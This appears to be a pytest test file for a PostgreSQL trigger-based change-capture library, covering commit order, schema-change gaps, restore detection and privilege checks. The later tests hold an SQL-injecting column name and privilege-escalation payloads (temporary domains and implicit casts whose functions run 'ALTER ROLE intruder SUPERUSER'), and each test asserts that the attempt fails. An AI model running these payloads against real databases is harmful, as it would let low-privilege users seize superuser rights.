"""Trigger mode of PostgreSQL: its order, and what happens behind the triggers' back."""

from __future__ import annotations

import random
import shutil
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator

import psycopg
import pytest

from headwater.algebra.schema import Schema
from headwater.algebra.values import INT, TEXT
from headwater.embedded.postgres import PostgresServer
from headwater.errors import BrokenLogError, LostConnectionError, SourceError
from headwater.sources.channel import Channel
from headwater.sources.contract import Broken, Committed, Logged, Monitor, Progressed
from headwater.sources.postgres import locks
from headwater.sources.postgres.snapshot import XidSnapshot
from headwater.sources.postgres.source import PostgresSource
from headwater.testing.harness import local
from tests.sources.postgres_harness import PostgresHarness
from tests.sources.postgres_tools import LINES, answered, committed, read_log, replay, whole

WIDE = Schema.of([("id", INT), ("part", TEXT), ("qty", INT), ("note", TEXT)])


@pytest.fixture
def harness() -> Iterator[PostgresHarness]:
    harness = PostgresHarness(changes="triggers")
    harness.create_table("a", WIDE, ["id"])
    harness.create_table("b", LINES, ["id"])
    yield harness
    harness.close()


@pytest.fixture
def source(harness: PostgresHarness) -> PostgresSource:
    """Of `a` the columns id, part and qty are used, of `b` all."""
    source = harness.source(["a", "b"], watch_s=0).narrowed(
        {"a": ["id", "part", "qty"], "b": ["id", "part"]}
    )
    source.setup()
    return source


@pytest.fixture
def monitor(source: PostgresSource) -> Iterator[Monitor]:
    monitor = source.open_monitor(None)
    yield monitor
    monitor.close()


def read_until(monitor: Monitor, done: Callable[[list[Logged]], bool]) -> list[Logged]:
    """What comes until there is enough of it."""
    logged: list[Logged] = []
    deadline = time.monotonic() + 60
    while not done(logged):
        assert time.monotonic() < deadline, logged
        logged += monitor.read(0.2)
    return logged


def gaps(logged: list[Logged]) -> list[Broken]:
    return [item for item in logged if isinstance(item, Broken)]


def rows(item: Committed, relation: str) -> dict[tuple[object, ...], int]:
    return dict(local(item.transaction)[relation].items())


def snapshot(connection: psycopg.Connection) -> XidSnapshot:
    row = connection.execute("SELECT pg_current_snapshot()::text").fetchone()
    assert row is not None
    return XidSnapshot.parse(row[0])


# The order


def test_what_was_committed_first_is_delivered_first_whoever_wrote_last(
    harness: PostgresHarness, monitor: Monitor
) -> None:
    early, late, third = harness.writer(), harness.writer(), harness.writer()
    with late.transaction():
        late.execute("INSERT INTO b VALUES (1, 'commits last')")
        early.execute("INSERT INTO b VALUES (2, 'commits first')")
        third.execute("INSERT INTO b VALUES (3, 'has seen the first and not the last')")
    first, *rest = read_log(monitor, 2)
    assert rows(first, "b") == {(2, "commits first"): 1}
    assert {row[0] for item in rest for row in rows(item, "b")} == {1, 3}


def test_transactions_that_cannot_be_told_apart_are_delivered_as_one(
    harness: PostgresHarness, monitor: Monitor
) -> None:
    one, two = harness.writer(), harness.writer()
    with one.transaction(), two.transaction():
        one.execute("INSERT INTO b VALUES (1, 'x')")
        two.execute("INSERT INTO b VALUES (2, 'y')")
    (unit,) = read_log(monitor, 1)
    assert rows(unit, "b") == {(1, "x"): 1, (2, "y"): 1}
    assert len(unit.stamps) == 2


def test_an_answer_inside_of_such_a_unit_does_not_fit(
    harness: PostgresHarness, source: PostgresSource
) -> None:
    one, two = harness.writer(), harness.writer()
    with psycopg.connect(harness.dsn, autocommit=True) as connection:
        with one.transaction():
            with two.transaction():
                one.execute("INSERT INTO b VALUES (1, 'x')")
                two.execute("INSERT INTO b VALUES (2, 'y')")
            between = snapshot(connection)
        behind = snapshot(connection)
    channel = Channel(source)
    subscription = channel.subscribe(lambda _: None, paused=True)
    channel.start()
    try:
        channel.catch_up()
        assert channel.end == 1
        assert subscription.split(between, 0) is None
        assert subscription.split(behind, 0) == 1
    finally:
        channel.close()


def test_no_state_that_anyone_saw_contradicts_the_order(
    harness: PostgresHarness, source: PostgresSource
) -> None:
    """Overlapping writers, and an observer whose snapshots the log does not know."""
    stop = threading.Event()
    threads = [threading.Thread(target=_overlap, args=(harness, n, stop)) for n in range(4)]
    for thread in threads:
        thread.start()
    seen: list[XidSnapshot] = []
    with psycopg.connect(harness.dsn, autocommit=True) as connection:
        for _ in range(500):
            seen.append(snapshot(connection))
            time.sleep(0.002)
    stop.set()
    for thread in threads:
        thread.join()
    monitor = source.open_monitor(None)
    found = committed(read_until(monitor, lambda logged: len(committed(logged)) > 0))
    monitor.close()
    assert sum(len(item.stamps) for item in found) > 200
    for state in seen:
        held = [[state.includes(stamp) for stamp in item.stamps] for item in found]
        inside = sum(map(all, held))
        assert all(all(unit) for unit in held[:inside])
        assert not any(any(unit) for unit in held[inside + 1 :])
    assert replay(Counter(), "b", found) == harness.contents("b")


def _overlap(harness: PostgresHarness, number: int, stop: threading.Event) -> None:
    chance = random.Random(number)
    writer = harness.writer()
    key = number * 1_000_000
    while not stop.is_set():
        with writer.transaction():
            for _ in range(chance.randint(1, 3)):
                key += 1
                writer.execute("INSERT INTO b VALUES (?, 'x')", [key])
                time.sleep(chance.random() * 0.005)


def test_two_writers_of_the_same_row_are_never_one_unit(
    harness: PostgresHarness, monitor: Monitor
) -> None:
    one, two = harness.writer(), harness.writer()
    one.execute("INSERT INTO b VALUES (1, '')")
    with one.transaction():
        one.execute("UPDATE b SET part = part || 'a' WHERE id = 1")
        waiting = threading.Thread(
            target=two.execute, args=("UPDATE b SET part = part || 'b' WHERE id = 1",)
        )
        waiting.start()
        time.sleep(0.2)
    waiting.join()
    last = read_log(monitor, 3)[-1]
    assert rows(last, "b") == {(1, "a"): -1, (1, "ab"): 1}


# TRUNCATE


def test_a_truncate_is_a_gap_of_its_table(harness: PostgresHarness, monitor: Monitor) -> None:
    writer = harness.writer()
    writer.execute("INSERT INTO b VALUES (1, 'x'), (2, NULL)")
    read_log(monitor, 1)
    writer.execute("TRUNCATE b")
    (gap,) = gaps(read_until(monitor, lambda logged: len(gaps(logged)) == 1))
    assert gap.columns == {"pg.b": None}
    assert "TRUNCATE of public.b" in gap.reason


def test_going_on_from_a_gap_loses_nothing_of_its_own_transaction(
    harness: PostgresHarness, source: PostgresSource, monitor: Monitor
) -> None:
    with psycopg.connect(harness.dsn) as writing:
        writing.execute("INSERT INTO a VALUES (1, 'x', 10, '')")
        writing.execute("TRUNCATE b")
    (gap,) = gaps(read_until(monitor, lambda logged: len(gaps(logged)) == 1))
    again = source.open_monitor(gap.position)
    logged = read_until(again, lambda logged: len(committed(logged)) == 1)
    assert rows(committed(logged)[0], "a") == {(1, "x", 10): 1}
    again.close()


# Behind our back

SWITCHED_OFF = """
ALTER TABLE a DISABLE TRIGGER ALL; UPDATE a SET qty = qty + 1; ALTER TABLE a ENABLE TRIGGER ALL
"""
TRIGGERS_LOST = "DROP FUNCTION {schema}.rows_{oid} CASCADE"
REPLACED = """
DO $$ DECLARE body text; BEGIN
  body := pg_get_functiondef('{schema}.rows_{oid}'::regproc);
  EXECUTE 'CREATE OR REPLACE FUNCTION {schema}.rows_{oid}() RETURNS trigger LANGUAGE plpgsql AS '
    ''' BEGIN RETURN NULL; END ''';
  UPDATE a SET qty = qty + 1;
  EXECUTE body;
END $$
"""
CASES = [
    (SWITCHED_OFF, None),
    (REPLACED, None),
    ("BEGIN;" + SWITCHED_OFF + "; COMMIT", None),
    (TRIGGERS_LOST, None),
    ("ALTER TABLE a RENAME TO z; ALTER TABLE z RENAME TO a; " + SWITCHED_OFF, None),
    ("ALTER TABLE a ALTER qty TYPE bigint USING qty * 2", {"qty"}),
    ("ALTER TABLE a ALTER qty TYPE text", {"qty"}),
    ("ALTER TABLE a DROP COLUMN part; ALTER TABLE a ADD COLUMN part text DEFAULT 'new'", {"part"}),
    ("ALTER TABLE a DROP COLUMN part", {"part"}),
    ("ALTER TABLE a RENAME part TO piece", {"part"}),
    ("ALTER TABLE a DROP CONSTRAINT a_pkey; ALTER TABLE a ADD PRIMARY KEY (id)", {"id"}),
    ("ALTER TABLE a RENAME part TO x; ALTER TABLE a RENAME note TO part", {"part"}),
]


def run(harness: PostgresHarness, statements: str) -> None:
    with psycopg.connect(harness.dsn, autocommit=True) as connection:
        row = connection.execute("SELECT 'a'::regclass::oid").fetchone()
        assert row is not None
        connection.execute(statements.format(schema=harness.name, oid=row[0]).encode())


NO_KEY = ("ALTER TABLE a DROP CONSTRAINT a_pkey", {"id"})


@pytest.mark.parametrize(("statements", "columns"), [*CASES, NO_KEY])
def test_what_the_triggers_did_not_see_is_a_gap_while_running(
    harness: PostgresHarness, monitor: Monitor, statements: str, columns: set[str] | None
) -> None:
    writer = harness.writer()
    writer.execute("INSERT INTO a VALUES (1, 'x', 10, '')")
    read_log(monitor, 1)
    run(harness, statements)
    writer.execute("INSERT INTO b VALUES (1, 'goes on')")
    logged = read_until(monitor, lambda logged: len(committed(logged)) == 1)
    (gap,) = gaps(logged)
    assert gap.columns == {"pg.a": None if columns is None else frozenset(columns)}
    assert "public.a" in gap.reason


@pytest.mark.parametrize(("statements", "columns"), CASES)
def test_what_the_triggers_did_not_see_is_a_gap_after_a_restart(
    harness: PostgresHarness, source: PostgresSource, statements: str, columns: set[str] | None
) -> None:
    writer = harness.writer()
    monitor = source.open_monitor(None)
    writer.execute("INSERT INTO a VALUES (1, 'x', 10, '')")
    (first,) = read_log(monitor, 1)
    monitor.acknowledge(first.position)
    monitor.close()
    run(harness, statements)
    source.relations()
    reopened = source.open_monitor(first.position)
    (gap,) = gaps(read_until(reopened, lambda logged: len(gaps(logged)) == 1))
    assert gap.columns == {"pg.a": None if columns is None else frozenset(columns)}
    writer.execute("INSERT INTO b VALUES (1, 'goes on')")
    logged = read_until(reopened, lambda logged: len(committed(logged)) == 1)
    assert isinstance(logged[-1], Progressed)
    reopened.acknowledge(logged[-1].position)
    reopened.close()
    again = source.open_monitor(logged[-1].position)
    assert gaps(list(again.read(0.3))) == [], "it was told already"
    again.close()


@pytest.mark.parametrize(
    "written",
    [
        "INSERT INTO a VALUES (2, 'y', 20, '')",
        "UPDATE a SET piece = 'y'",
        "DELETE FROM a",
    ],
)
def test_a_change_while_a_used_column_has_another_name_is_a_gap_though_it_is_back(
    harness: PostgresHarness, source: PostgresSource, written: str
) -> None:
    writer = harness.writer()
    monitor = source.open_monitor(None)
    writer.execute("INSERT INTO a VALUES (1, 'x', 10, '')")
    (first,) = read_log(monitor, 1)
    monitor.close()
    there, back = "ALTER TABLE a RENAME part TO piece", "ALTER TABLE a RENAME piece TO part"
    run(harness, f"{there}; {written}; {back}")
    reopened = source.open_monitor(first.position)
    (gap,) = gaps(read_until(reopened, lambda logged: len(gaps(logged)) == 1))
    assert gap.columns == {"pg.a": frozenset({"part"})}
    assert "may have had another name" in gap.reason
    reopened.close()


SWAP = "ALTER TABLE a RENAME part TO x; ALTER TABLE a RENAME note TO part; {}"
SWAP = SWAP.format("ALTER TABLE a RENAME x TO note")


@pytest.mark.parametrize("is_away", [True, False])
@pytest.mark.parametrize("whole", ["{}", "BEGIN; {}; COMMIT"])
def test_a_change_while_two_columns_had_swapped_their_names_is_a_gap(
    harness: PostgresHarness, source: PostgresSource, whole: str, is_away: bool
) -> None:
    writer = harness.writer()
    monitor = source.open_monitor(None)
    writer.execute("INSERT INTO a VALUES (1, 'x', 10, '')")
    (first,) = read_log(monitor, 1)
    if is_away:
        monitor.close()
    written = "INSERT INTO a (id, part, qty, note) VALUES (2, 'part', 20, 'note')"
    run(harness, whole.format(f"{SWAP}; {written}; {SWAP}"))
    if is_away:
        monitor = source.open_monitor(first.position)
    (gap,) = gaps(read_until(monitor, lambda logged: len(gaps(logged)) == 1))
    assert gap.columns == {"pg.a": frozenset({"part"})}
    assert "may have had another name" in gap.reason
    monitor.close()


@pytest.mark.parametrize("back", [SWAP, f"SAVEPOINT s; {SWAP}; RELEASE s"])
def test_a_swap_around_a_change_in_one_transaction_is_a_gap_while_others_commit(
    harness: PostgresHarness, source: PostgresSource, back: str
) -> None:
    monitor = source.open_monitor(None)
    harness.writer().execute("INSERT INTO b VALUES (1, 'first')")
    read_log(monitor, 1)
    with psycopg.connect(harness.dsn) as connection:
        connection.execute(f"INSERT INTO b VALUES (2, 'of it'); {SWAP}".encode())
        with psycopg.connect(harness.dsn, autocommit=True) as other:
            other.execute("SELECT pg_current_xact_id()")
            other.execute("SELECT pg_current_xact_id()")
        connection.execute("INSERT INTO a (id, part, qty, note) VALUES (2, 'part', 20, 'note')")
        connection.execute(back.encode())
    (gap,) = gaps(read_until(monitor, lambda logged: len(gaps(logged)) == 1))
    assert gap.columns == {"pg.a": frozenset({"part"})}
    monitor.close()


def test_rows_of_a_transaction_that_was_open_when_labels_were_renamed_are_a_gap(
    harness: PostgresHarness,
) -> None:
    writer = harness.writer()
    writer.execute("CREATE TYPE mood AS ENUM ('sad', 'ok')")
    writer.execute("CREATE TABLE c (id int PRIMARY KEY, of mood)")
    source = harness.source(["b", "c"], watch_s=0)
    source.setup()
    monitor = source.open_monitor(None)
    with psycopg.connect(harness.dsn) as long:
        long.execute("INSERT INTO c VALUES (1, 'ok')")
        writer.execute("ALTER TYPE mood RENAME VALUE 'ok' TO 'fine'")
        read_until(monitor, lambda logged: len(gaps(logged)) == 1)
    (gap,) = gaps(read_until(monitor, lambda logged: len(gaps(logged)) == 1))
    assert gap.columns == {"pg.c": frozenset({"of"})}
    writer.execute("INSERT INTO c VALUES (2, 'fine')")
    logged = read_until(monitor, lambda logged: len(committed(logged)) == 1)
    assert not gaps(logged)
    monitor.close()


def test_a_new_default_of_a_used_column_changes_nothing_for_rows_behind_it(
    harness: PostgresHarness, monitor: Monitor
) -> None:
    writer = harness.writer()
    run(harness, "ALTER TABLE a ALTER qty SET DEFAULT 3")
    writer.execute("INSERT INTO a (id, part) VALUES (1, 'x')")
    logged = read_until(monitor, lambda logged: len(committed(logged)) == 1)
    assert gaps(logged) == []
    assert rows(committed(logged)[0], "a") == {(1, "x", 3): 1}


@pytest.mark.parametrize(
    "statements",
    [
        "VACUUM FULL a",
        "ALTER TABLE a ADD COLUMN more int",
        "REINDEX TABLE CONCURRENTLY a",
        "ALTER TABLE a DROP COLUMN note",
        "ALTER TABLE a RENAME note TO remark",
        "ALTER TABLE a ALTER note TYPE varchar(20) USING 'x'",
    ],
)
def test_what_concerns_no_used_column_changes_nothing(
    harness: PostgresHarness, monitor: Monitor, statements: str
) -> None:
    writer = harness.writer()
    writer.execute("INSERT INTO a (id, part, qty) VALUES (1, 'x', 10)")
    run(harness, statements)
    writer.execute("UPDATE a SET qty = 11")
    logged = read_until(monitor, lambda logged: len(committed(logged)) == 2)
    assert gaps(logged) == []
    assert rows(committed(logged)[1], "a") == {(1, "x", 10): -1, (1, "x", 11): 1}


@pytest.mark.parametrize(
    "statement", ["ALTER TABLE a DROP COLUMN part", "ALTER TABLE a ALTER qty TYPE text"]
)
def test_the_application_writes_on_when_a_logged_column_is_gone_or_altered(
    harness: PostgresHarness, monitor: Monitor, statement: str
) -> None:
    writer = harness.writer()
    writer.execute("INSERT INTO a VALUES (1, 'x', 10, '')")  # has planned the function
    read_log(monitor, 1)
    run(harness, statement)
    writer.execute("INSERT INTO a (id) VALUES (2)")
    writer.execute("UPDATE a SET id = 3 WHERE id = 2")
    fresh = harness.writer()
    fresh.execute("DELETE FROM a WHERE id = 3")
    writer.execute("DELETE FROM a")
    writer.execute("TRUNCATE a")
    logged = read_until(monitor, lambda logged: len(gaps(logged)) == 2)
    assert len(committed(logged)) == 4
    for relation in (item.transaction.deltas["pg.a"] for item in committed(logged)):
        assert "id" in relation.schema.names
    ids = Counter({1: 1})
    for item in committed(logged):
        delta = local(item.transaction)["a"]
        for row, count in delta.items():
            ids[row[delta.schema.positions["id"]]] += count  # type: ignore[index]
    assert +ids == Counter()


def test_triggers_that_are_lost_must_be_set_up_before_a_load_and_then_all_goes_on(
    harness: PostgresHarness, source: PostgresSource, monitor: Monitor
) -> None:
    run(harness, TRIGGERS_LOST)
    read_until(monitor, lambda logged: len(gaps(logged)) == 1)
    with pytest.raises(SourceError, match=r"triggers on public\.a .* Run 'headwater setup pg'"):
        source.open_load(["a"], 1)
    source.open_load(["b"], 1).close()
    source.setup()
    read_until(monitor, lambda logged: len(gaps(logged)) == 1)
    source.open_load(["a"], 1).close()
    harness.writer().execute("INSERT INTO a VALUES (5, 'x', 1, '')")
    assert rows(read_log(monitor, 1)[0], "a") == {(5, "x", 1): 1}


def test_a_table_that_is_made_anew_is_a_gap_and_is_followed_after_setup(
    harness: PostgresHarness, source: PostgresSource, monitor: Monitor
) -> None:
    run(harness, "DROP TABLE b; CREATE TABLE b (id bigint PRIMARY KEY, part text)")
    (gap,) = gaps(read_until(monitor, lambda logged: len(gaps(logged)) == 1))
    assert gap.columns == {"pg.b": None}
    source.relations()
    source.setup()
    read_until(monitor, lambda logged: len(gaps(logged)) == 1)
    harness.writer().execute("INSERT INTO b VALUES (1, 'x')")
    assert rows(read_log(monitor, 1)[0], "b") == {(1, "x"): 1}


def test_a_table_that_is_dropped_between_runs_is_a_gap(
    harness: PostgresHarness, source: PostgresSource, monitor: Monitor
) -> None:
    harness.writer().execute("INSERT INTO a VALUES (1, 'x', 10, '')")
    (first,) = read_log(monitor, 1)
    monitor.close()
    run(harness, "DROP TABLE b")
    reopened = source.open_monitor(first.position)
    (gap,) = gaps(read_until(reopened, lambda logged: len(gaps(logged)) == 1))
    assert gap.columns == {"pg.b": None}
    harness.writer().execute("INSERT INTO a VALUES (2, 'goes on', 1, '')")
    read_log(reopened, 1)
    reopened.close()


def test_setup_does_not_queue_for_a_lock_that_others_hold(
    harness: PostgresHarness, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(locks, "_TRIES", 2)
    monkeypatch.setattr(locks, "_LIMIT_MS", 50)
    source = harness.source(["b"])
    with psycopg.connect(harness.dsn, application_name="nightly") as writing:
        writing.execute("INSERT INTO b VALUES (1, 'x')")
        with pytest.raises(SourceError, match=r"lock could not be had .*\(nightly\)"):
            source.setup()
    source.setup()
    assert source.setup_statements() == []


# Another history


@pytest.mark.parametrize("advanced", [False, True])
def test_a_database_that_was_set_back_is_noticed(advanced: bool) -> None:
    server = PostgresServer(16)
    try:
        harness = PostgresHarness(server, changes="triggers")
        harness.create_table("b", LINES, ["id"])
        source = harness.source(["b"])
        source.setup()
        monitor = source.open_monitor(None)
        server.execute("INSERT INTO b VALUES (1, 'x')", database=harness.name)
        (before,) = read_log(monitor, 1)
        monitor.acknowledge(before.position)
        monitor.close()
        server.halt()
        data = server.folder / "data"
        shutil.copytree(data, server.folder / "backup", symlinks=True)
        _own(server, "backup")
        server.start()
        server.execute("INSERT INTO b VALUES (2, 'y')", database=harness.name)
        monitor = source.open_monitor(before.position)
        (after,) = read_log(monitor, 1)
        monitor.close()
        server.halt()
        shutil.rmtree(data)
        (server.folder / "backup").rename(data)
        server.start()
        monitor = source.open_monitor(before.position)  # what was not lost is gone on from
        monitor.close()
        for number in range(60 if advanced else 0):
            server.execute(f"INSERT INTO b VALUES ({number + 10}, 'z')", database=harness.name)
        with pytest.raises(BrokenLogError, match="set back") as caught:
            source.open_monitor(after.position)
        assert "headwater repair pg" in str(caught.value)
        harness.close()
    finally:
        server.stop()


def _own(server: PostgresServer, name: str) -> None:
    owner = (server.folder / "data").stat()
    for path in [server.folder / name, *(server.folder / name).rglob("*")]:
        shutil.chown(path, owner.st_uid, owner.st_gid)


def test_a_position_before_what_was_acknowledged_or_a_log_that_is_gone_is_broken(
    harness: PostgresHarness, source: PostgresSource
) -> None:
    writer = harness.writer()
    monitor = source.open_monitor(None)
    writer.execute("INSERT INTO b VALUES (1, 'x')")
    (first,) = read_log(monitor, 1)
    writer.execute("INSERT INTO b VALUES (2, 'x')")
    (second,) = read_log(monitor, 1)
    monitor.acknowledge(second.position)
    monitor.close()
    with pytest.raises(BrokenLogError, match="acknowledged and is gone"):
        source.open_monitor({"snapshot": first.position["snapshot"]})
    source.teardown()
    with pytest.raises(BrokenLogError, match="is gone"):
        source.open_monitor(second.position)
    with pytest.raises(SourceError, match="Run 'headwater setup pg'"):
        source.open_monitor(None)
    source.setup()
    with pytest.raises(BrokenLogError):
        source.open_monitor(second.position)


# Owners


def test_each_warehouse_has_a_log_of_its_own(harness: PostgresHarness) -> None:
    ours = harness.source(["b"], slot=None, owner="0000aaaa")
    theirs = harness.source(["b"], slot=None, owner="0000bbbb")
    ours.setup()
    theirs.setup()
    monitors = [source.open_monitor(None) for source in (ours, theirs)]
    harness.writer().execute("INSERT INTO b VALUES (1, 'x')")
    for monitor in monitors:
        assert rows(read_log(monitor, 1)[0], "b") == {(1, "x"): 1}
        monitor.close()
    assert [log.owner for log in ours.other_logs()] == ["0000bbbb"]
    ours.remove_log("0000bbbb")
    assert list(ours.other_logs()) == []
    harness.writer().execute("INSERT INTO b VALUES (2, 'x')")
    with pytest.raises(SourceError, match="not set up"):
        theirs.open_monitor(None)


def test_the_log_of_another_warehouse_is_refused(harness: PostgresHarness) -> None:
    harness.source(["b"], owner="0000aaaa").setup()
    other = harness.source(["b"], owner="0000bbbb")
    for step in (other.setup, other.teardown, lambda: other.open_monitor(None)):
        with pytest.raises(SourceError, match=r"another warehouse \(0000aaaa\)"):
            step()


def test_a_schema_that_someone_else_put_in_place_is_refused(harness: PostgresHarness) -> None:
    writer = harness.writer()
    writer.execute("DROP ROLE IF EXISTS squatter; CREATE ROLE squatter")
    writer.execute(f"CREATE SCHEMA {harness.name} AUTHORIZATION squatter")
    with pytest.raises(SourceError, match="squatter owns the schema"):
        harness.source(["b"]).setup()
    writer.execute(f"DROP SCHEMA {harness.name}; DROP ROLE squatter")


# What is logged


def test_only_the_columns_that_views_use_are_logged(
    harness: PostgresHarness, source: PostgresSource, monitor: Monitor
) -> None:
    writer = harness.writer()
    writer.execute("INSERT INTO a VALUES (1, 'x', 10, 'secret')")
    writer.execute("UPDATE a SET note = 'more secrets'")
    writer.execute("UPDATE a SET qty = 11")
    found = read_log(monitor, 2)
    assert rows(found[1], "a") == {(1, "x", 10): -1, (1, "x", 11): 1}
    with psycopg.connect(harness.dsn) as connection:
        logged = connection.execute(f"SELECT old, new FROM {harness.name}.log".encode()).fetchall()
    assert "secret" not in str(logged)
    assert "11" in str(logged)


def test_a_column_that_is_not_logged_yet_is_told_and_logged_after_setup(
    harness: PostgresHarness, source: PostgresSource, monitor: Monitor
) -> None:
    wider = source.narrowed({"a": ["id", "note"]})
    with pytest.raises(SourceError, match=r"does not log .* note.* Run 'headwater setup pg'"):
        wider.open_monitor(None)
    both = source.narrowed({"a": ["id", "part", "qty", "note"]})
    writer = harness.writer()
    writer.execute("INSERT INTO a VALUES (1, 'x', 10, 'old')")
    both.setup()
    assert both.setup_statements() == []
    writer.execute("INSERT INTO a VALUES (2, 'x', 10, 'new')")
    assert [rows(item, "a") for item in read_log(monitor, 2)] == [
        {(1, "x", 10): 1},
        {(2, "x", 10): 1},
    ]
    again = both.open_monitor(None)
    first, second = read_log(again, 2)
    assert first.transaction.deltas["pg.a"].schema.names == ("id", "part", "qty")
    assert rows(second, "a") == {(2, "x", 10, "new"): 1}
    again.close()


def test_what_was_acknowledged_leaves_the_log(
    harness: PostgresHarness, source: PostgresSource, monitor: Monitor
) -> None:
    harness.writer().execute("INSERT INTO b SELECT n, 'x' FROM generate_series(1, 25000) n")
    (item,) = read_log(monitor, 1)
    monitor.acknowledge(item.position)
    with psycopg.connect(harness.dsn, autocommit=True) as connection:
        count = f"SELECT count(*) FROM {harness.name}.log WHERE relation IS NOT NULL".encode()
        deadline = time.monotonic() + 60
        while connection.execute(count).fetchone() != (0,):
            assert time.monotonic() < deadline
            monitor.read(0.1)


# Names, and who may do what

ODD_NAMES = [
    "a b",
    "a  b",
    "a\nb",
    "$headwater$; CREATE ROLE injected; --",
    "$$",
    "it's",
    '"quoted"',
    "back\\slash",
    "%s %(x)s {y}",
    "größe_名前",
    "n" * 63,
    "é" * 31,
]


def test_columns_of_any_name_are_logged_and_run_nothing(harness: PostgresHarness) -> None:
    schema = Schema.of([("id", INT), *((name, INT) for name in ODD_NAMES)])
    harness.create_table("odd", schema, ["id"])
    source = harness.source(["odd"])
    source.setup()
    assert source.setup_statements() == []
    monitor = source.open_monitor(None)
    values = tuple(range(len(schema)))
    holes = ", ".join("?" for _ in values)
    writer = harness.writer()
    writer.execute(f"INSERT INTO odd VALUES ({holes})", values)
    assert rows(read_log(monitor, 1)[0], "odd") == {values: 1}
    writer.execute("DELETE FROM odd")
    assert rows(read_log(monitor, 1)[0], "odd") == {values: -1}
    writer.execute('ALTER TABLE odd DROP COLUMN "a b"')
    writer.execute("INSERT INTO odd (id) VALUES (1)")
    monitor.close()
    with psycopg.connect(harness.dsn) as connection:
        found = connection.execute("SELECT FROM pg_roles WHERE rolname = 'injected'").fetchall()
    assert found == []


def test_names_of_63_bytes_make_a_log_and_triggers(harness: PostgresHarness) -> None:
    harness.create_table("t" * 63, LINES, ["id"])
    source = harness.source(["t" * 63], slot="s" * 63)
    source.setup()
    assert source.setup_statements() == []
    monitor = source.open_monitor(None)
    harness.writer().execute(f"INSERT INTO {'t' * 63} VALUES (1, 'x')")
    read_log(monitor, 1)
    monitor.close()
    source.teardown()


@pytest.fixture
def intruder(harness: PostgresHarness, source: PostgresSource) -> Iterator[psycopg.Connection]:
    """A session of a role that may write the tables, and make objects of its own."""
    admin = harness.writer()
    admin.execute("DROP ROLE IF EXISTS intruder; CREATE ROLE intruder LOGIN")
    admin.execute("GRANT INSERT, SELECT, UPDATE ON a, b TO intruder")
    admin.execute(f'GRANT CREATE, TEMPORARY ON DATABASE "{harness.name}" TO intruder')
    with psycopg.connect(harness.server.dsn(harness.name, "intruder"), autocommit=True) as session:
        yield session
    admin.execute("DROP OWNED BY intruder CASCADE; DROP ROLE intruder")


def is_superuser(harness: PostgresHarness) -> bool:
    with psycopg.connect(harness.dsn) as connection:
        row = connection.execute("SELECT rolsuper FROM pg_roles WHERE rolname = 'intruder'")
        return bool((row.fetchone() or (False,))[0])


@pytest.mark.parametrize("name", ["text", '"char"', "int8", "oid", "_text", "regclass"])
def test_a_writer_cannot_slip_a_type_of_its_own_into_the_trigger(
    harness: PostgresHarness, monitor: Monitor, intruder: psycopg.Connection, name: str
) -> None:
    intruder.execute(
        b"CREATE FUNCTION pg_temp.become() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN "
        b"EXECUTE 'ALTER ROLE intruder SUPERUSER'; RETURN true; "
        b"EXCEPTION WHEN insufficient_privilege THEN RETURN true; END $$"
    )
    base = {'"char"': 'pg_catalog."char"'}.get(name, f"pg_catalog.{name}")
    intruder.execute(f"CREATE DOMAIN pg_temp.{name} AS {base} CHECK (pg_temp.become())".encode())
    intruder.execute("SET search_path = pg_temp, public")
    intruder.execute("INSERT INTO public.a VALUES (1, 'x', 2, 'n')")
    intruder.execute("UPDATE public.a SET part = 'y'")
    assert not is_superuser(harness)
    assert len(read_log(monitor, 2)) == 2


def test_a_tables_owner_cannot_slip_a_cast_into_the_trigger(
    harness: PostgresHarness, monitor: Monitor, intruder: psycopg.Connection
) -> None:
    admin = harness.writer()
    admin.execute("ALTER TABLE b OWNER TO intruder; GRANT CREATE ON SCHEMA public TO intruder")
    for statement in (
        "CREATE TYPE public.evil AS (n int)",
        "CREATE FUNCTION public.become(public.evil) RETURNS text LANGUAGE plpgsql AS $$ BEGIN "
        "EXECUTE 'ALTER ROLE intruder SUPERUSER'; RETURN 'x'; "
        "EXCEPTION WHEN insufficient_privilege THEN RETURN 'x'; END $$",
        "CREATE CAST (public.evil AS text) WITH FUNCTION public.become(public.evil) AS IMPLICIT",
        "ALTER TABLE public.b ALTER part TYPE public.evil USING ROW(1)::public.evil",
        "INSERT INTO public.b VALUES (1, ROW(2))",
        "TRUNCATE public.b",
    ):
        intruder.execute(statement.encode())
    assert not is_superuser(harness)
    admin.execute("ALTER TABLE b OWNER TO postgres")


@pytest.mark.parametrize("isolation", ["READ COMMITTED", "REPEATABLE READ"])
def test_a_column_that_is_gone_is_not_called_as_a_function(
    harness: PostgresHarness, intruder: psycopg.Connection, isolation: str
) -> None:
    harness.writer().execute("CREATE TABLE c (id int PRIMARY KEY, t text, to_json text)")
    source = harness.source(["c"])
    source.setup()
    admin = harness.writer()
    admin.execute("ALTER TABLE c OWNER TO intruder; GRANT CREATE ON SCHEMA public TO intruder")
    for statement in (
        "CREATE TYPE public.evil AS ENUM ('x')",
        "CREATE FUNCTION public.become(public.evil) RETURNS json LANGUAGE plpgsql AS $$ BEGIN "
        "EXECUTE 'ALTER ROLE intruder SUPERUSER'; RETURN 'null'; "
        "EXCEPTION WHEN insufficient_privilege THEN RETURN 'null'; END $$",
        "CREATE CAST (public.evil AS json) WITH FUNCTION public.become(public.evil)",
    ):
        intruder.execute(statement.encode())
    with psycopg.connect(harness.server.dsn(harness.name, "intruder")) as writer:
        writer.execute(f"SET TRANSACTION ISOLATION LEVEL {isolation}".encode())
        writer.execute("SELECT")  # a snapshot in which the column is still there
        intruder.execute("ALTER TABLE c DROP COLUMN to_json; ALTER TABLE c ADD COLUMN e evil")
        writer.execute("INSERT INTO c VALUES (2, 'kept', 'x')")
    assert not is_superuser(harness)
    log = admin.connection.execute(f"SELECT new FROM {harness.name}.log".encode())
    assert (["2", "kept", None, "to_json"],) in log.fetchall()
    source.teardown()
    admin.execute("ALTER TABLE c OWNER TO postgres")


def test_setup_renews_the_function_of_an_earlier_version(
    harness: PostgresHarness, source: PostgresSource
) -> None:
    writer = harness.writer()
    writer.execute(
        f"CREATE OR REPLACE FUNCTION {harness.name}.values_left(whole anyelement, names text[]) "
        "RETURNS text[] LANGUAGE plpgsql AS 'BEGIN RETURN names; END'"
    )
    assert source.setup_statements() != []
    source.setup()
    assert source.setup_statements() == []


def test_a_writer_can_neither_read_nor_forge_the_log_nor_call_its_functions(
    harness: PostgresHarness, source: PostgresSource, intruder: psycopg.Connection
) -> None:
